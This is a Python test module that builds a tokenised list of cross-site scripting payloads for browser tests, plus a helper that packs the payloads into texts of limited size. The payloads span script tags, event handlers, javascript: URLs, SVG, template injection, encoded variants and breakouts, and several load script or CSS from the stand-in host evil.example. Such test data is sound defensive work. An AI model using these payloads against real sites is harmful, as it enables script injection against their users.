"""Cross-site scripting payloads for the browser tests, each carrying its own token.

Every payload calls alert/confirm/prompt or a global with its token (`xss07`), so an execution
says which one ran; the token also proves the payload reached the page as text. The families:
script tags, event handlers, javascript: and data: URLs, SVG and MathML, srcdoc iframes, CSS,
template injection for Jinja and client-side templates, encoded and unicode variants, broken
tags, attribute breakouts, JSON and script-block breakouts.
"""

from __future__ import annotations

TEMPLATES = [
    "<script>alert('{t}')</script>",
    "<SCRIPT SRC=//evil.example/{t}.js></SCRIPT>",
    "<script>/*{t}*/confirm(1)</script>",
    "<img src=x onerror=alert('{t}')>",
    "<img src=x onerror=\"prompt('{t}')\">",
    "<svg onload=alert('{t}')>",
    "<svg><script>alert('{t}')</script></svg>",
    "<svg><animate onbegin=alert('{t}') attributeName=x dur=1s>",
    "<body onload=alert('{t}')>",
    "<iframe srcdoc=\"<script>parent.alert('{t}')</script>\"></iframe>",
    "<iframe src=\"javascript:alert('{t}')\"></iframe>",
    "<a href=\"javascript:alert('{t}')\">click {t}</a>",
    "<a href=\"JaVaScRiPt:alert('{t}')\">{t}</a>",
    "<a href=\"&#106;avascript:alert('{t}')\">{t}</a>",
    "<a href=\"data:text/html,<script>alert('{t}')</script>\">{t}</a>",
    "<details open ontoggle=alert('{t}')>",
    "<input autofocus onfocus=alert('{t}')>",
    "<select autofocus onfocus=alert('{t}')></select>",
    "<video><source onerror=alert('{t}')></video>",
    "<audio src=x onerror=alert('{t}')>",
    "<object data=\"javascript:alert('{t}')\"></object>",
    "<embed src=\"javascript:alert('{t}')\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('{t}')>",
    "<div style=\"background:url(javascript:alert('{t}'))\">{t}</div>",
    "<div style=\"width:expression(alert('{t}'))\">{t}</div>",
    "<style>@import 'javascript:alert(\"{t}\")';</style>",
    "<link rel=stylesheet href=//evil.example/{t}.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert('{t}')\">",
    "<base href=//evil.example/{t}/>",
    "<form action=javascript:alert('{t}')><button>{t}</button></form>",
    "{{{{7*7}}}} {{{{ config }}}} {t}",
    "{{% print('{t}') %}} {{{{ ''.__class__ }}}}",
    "${{alert('{t}')}} #{{alert('{t}')}}",
    "{{{{constructor.constructor('alert(\"{t}\")')()}}}}",
    "\"><script>alert('{t}')</script>",
    "'><img src=x onerror=alert('{t}')>",
    '" onmouseover="alert(\'{t}\')" x="',
    "' autofocus onfocus='alert(\"{t}\")' x='",
    "</textarea><script>alert('{t}')</script>",
    "</title><script>alert('{t}')</script>",
    "</script><script>alert('{t}')</script>",
    "</script><img src=x onerror=alert('{t}')>",
    "\"}}]</script><script>alert('{t}')</script>",
    "\\u003cscript\\u003ealert('{t}')\\u003c/script\\u003e",
    "&lt;script&gt;alert('{t}')&lt;/script&gt;",
    "%3Cscript%3Ealert('{t}')%3C%2Fscript%3E",
    "＜script＞alert('{t}')＜/script＞",
    "<scr<script>ipt>alert('{t}')</scr</script>ipt>",
    "<img src=x onerror=alert('{t}')//",
    "<img/src=x/onerror=alert('{t}')>",
    "<img src=`x` onerror=alert('{t}')>",
    "<!--<img src=--><img src=x onerror=alert('{t}')//-->",
    "<![CDATA[<script>alert('{t}')</script>]]>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('{t}')>\">",
    "<template><script>alert('{t}')</script></template>",
    "javascript:alert('{t}')",
    "\u202e<script>alert('{t}')</script>\u200b",
    "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>{t}",
]


def token(n: int) -> str:
    """The token of payload n."""
    return f"xss{n:02d}"


PAYLOADS: list[str] = [template.format(t=token(n)) for n, template in enumerate(TEMPLATES)]
TOKENS: list[str] = [token(n) for n in range(len(PAYLOADS))]


def packed(limit: int, separator: str = "\n", suffix: str = "") -> list[tuple[str, list[str]]]:
    """All payloads packed into as few texts as fit `limit` characters (with `suffix` added),
    each with the tokens it carries."""
    texts: list[tuple[str, list[str]]] = []
    current: list[str] = []
    tokens: list[str] = []
    for payload, tok in zip(PAYLOADS, TOKENS, strict=True):
        candidate = separator.join([*current, payload]) + suffix
        if current and len(candidate) > limit:
            texts.append((separator.join(current) + suffix, tokens))
            current, tokens = [], []
        if len(payload) + len(suffix) > limit:
            continue
        current.append(payload)
        tokens.append(tok)
    if current:
        texts.append((separator.join(current) + suffix, tokens))
    return texts
